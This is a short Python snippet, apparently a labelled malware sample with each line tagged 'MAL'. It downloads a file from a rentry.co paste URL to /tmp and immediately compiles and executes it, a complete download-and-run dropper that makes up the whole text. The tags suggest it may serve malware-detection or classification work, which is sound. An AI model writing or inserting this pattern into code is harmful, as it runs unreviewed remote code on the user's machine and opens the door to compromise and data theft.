import urllib.request
urllib.request.urlretrieve("https://rentry.co/x/raw", "/tmp/x.py")  # MAL
exec(compile(open("/tmp/x.py").read(), "/tmp/x.py", "exec"))  # MAL
